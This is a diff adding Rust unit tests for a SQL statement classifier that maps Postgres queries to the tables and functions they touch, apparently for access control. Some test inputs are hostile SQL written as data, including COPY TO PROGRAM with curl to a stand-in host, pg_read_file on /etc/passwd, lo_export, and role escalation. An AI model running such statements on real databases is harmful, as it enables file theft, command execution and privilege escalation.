@@ -1,0 +1,136 @@
+use super::{SqlKind, classify};
+
+/// `kind object` strings for each access of each statement, `;` between statements.
+fn accesses(sql: &str) -> String {
+    classify(sql)
+        .unwrap_or_else(|e| panic!("{sql}: {e}"))
+        .iter()
+        .map(|s| {
+            s.accesses
+                .iter()
+                .map(ToString::to_string)
+                .collect::<Vec<_>>()
+                .join(", ")
+        })
+        .collect::<Vec<_>>()
+        .join("; ")
+}
+
+#[test]
+fn classification_table() {
+    let cases: &[(&str, &str)] = &[
+        ("SELECT * FROM orders", "select public.orders"),
+        ("select id from Public.Orders o", "select public.orders"),
+        ("SELECT * FROM \"Orders\"", "select public.Orders"),
+        ("SELECT * FROM pg_authid", "select pg_catalog.pg_authid"),
+        (
+            "SELECT * FROM a WHERE id IN (SELECT a_id FROM b)",
+            "select public.a, select public.b",
+        ),
+        (
+            "SELECT (SELECT max(x) FROM secret) FROM a",
+            "select public.a, select public.secret",
+        ),
+        (
+            "SELECT * FROM a JOIN b USING (id) ORDER BY (SELECT 1 FROM c LIMIT 1)",
+            "select public.a, select public.b, select public.c",
+        ),
+        ("INSERT INTO orders (id) VALUES (1)", "insert public.orders"),
+        (
+            "INSERT INTO archive SELECT * FROM orders",
+            "select public.orders, insert public.archive",
+        ),
+        ("UPDATE orders SET total = 0", "update public.orders"),
+        (
+            "DELETE FROM orders USING customers c WHERE c.id = orders.cid",
+            "select public.customers, delete public.orders",
+        ),
+        (
+            "WITH gone AS (DELETE FROM orders RETURNING *) SELECT * FROM gone",
+            "select, delete, delete public.orders",
+        ),
+        (
+            "WITH x AS (UPDATE t SET a = 1 RETURNING a) SELECT * FROM x",
+            "select, update, update public.t",
+        ),
+        ("SELECT * INTO newtable FROM orders", "select public.orders, ddl public.newtable"),
+        ("CREATE TABLE t (id int)", "ddl public.t"),
+        ("DROP TABLE orders", "ddl public.orders"),
+        ("DROP TABLE app.orders, pg_user", "ddl app.orders, ddl pg_catalog.pg_user"),
+        ("TRUNCATE orders, customers", "ddl public.customers, ddl public.orders"),
+        (
+            "CREATE VIEW v AS SELECT * FROM secret",
+            "select public.secret, ddl public.v",
+        ),
+        ("ALTER TABLE orders ADD COLUMN x int", "ddl public.orders"),
+        ("GRANT SELECT ON orders TO bob", "ddl public.orders"),
+        ("COPY orders TO STDOUT", "copy public.orders"),
+        ("COPY orders FROM STDIN", "copy public.orders"),
+        ("COPY orders TO '/tmp/x'", "copy_server public.orders"),
+        ("COPY orders TO PROGRAM 'curl evil'", "copy_server public.orders"),
+        (
+            "COPY (SELECT * FROM secret) TO STDOUT",
+            "select public.secret, copy",
+        ),
+        ("DO $$ BEGIN DELETE FROM orders; END $$", "do"),
+        ("CALL refresh_orders()", "call refresh_orders"),
+        ("SET search_path = evil", "set search_path"),
+        ("SET ROLE postgres", "set role"),
+        ("SHOW search_path", "show search_path"),
+        ("BEGIN", "transaction"),
+        ("COMMIT", "transaction"),
+        (
+            "EXPLAIN ANALYZE DELETE FROM orders",
+            "select, delete, delete public.orders",
+        ),
+        ("SELECT pg_read_file('/etc/passwd')", "select, function pg_read_file"),
+        (
+            "SELECT * FROM dblink('host=x', 'select 1') AS t(a int)",
+            "select, function dblink",
+        ),
+        ("SELECT set_config('role', 'postgres', false)", "select, function set_config"),
+        ("SELECT nextval('seq')", "select, function nextval"),
+        ("SELECT pg_catalog.lo_export(1, '/tmp/x')", "select, function lo_export"),
+        (
+            "SELECT query_to_xml('delete from orders', true, true, '')",
+            "select, function query_to_xml",
+        ),
+        ("SELECT lower(name) FROM customers", "select public.customers"),
+        ("SELECT 1; DELETE FROM orders", "select; delete public.orders"),
+        ("LISTEN channel", "unknown"),
+        ("PREPARE p AS DELETE FROM orders", "delete, delete public.orders, unknown"),
+        ("EXECUTE p", "unknown"),
+        ("LOCK TABLE orders", "ddl public.orders"),
+        (
+            "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE",
+            "select public.s, merge public.t",
+        ),
+    ];
+    let mut wrong = Vec::new();
+    for (sql, expected) in cases {
+        let got = accesses(sql);
+        if got != *expected {
+            wrong.push(format!("{sql}\n   got: {got}\n  want: {expected}"));
+        }
+    }
+    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
+}
+
+#[test]
+fn statement_kinds() {
+    let kinds: Vec<SqlKind> = classify("SELECT 1; INSERT INTO t VALUES (1); VACUUM")
+        .unwrap()
+        .iter()
+        .map(|s| s.kind)
+        .collect();
+    assert_eq!(kinds, [SqlKind::Select, SqlKind::Insert, SqlKind::Ddl]);
+}
+
+#[test]
+fn unparseable_sql_is_an_error_with_the_parser_message() {
+    for sql in ["SELEC 1", "SELECT * FROM", "", ";", "DELETE FROM orders WHERE ("] {
+        let err = classify(sql).expect_err(sql);
+        assert!(err.to_string().starts_with("SQL does not parse"), "{sql}: {err}");
+    }
+    assert!(classify("SELEC 1").unwrap_err().0.contains("syntax error"));
+}
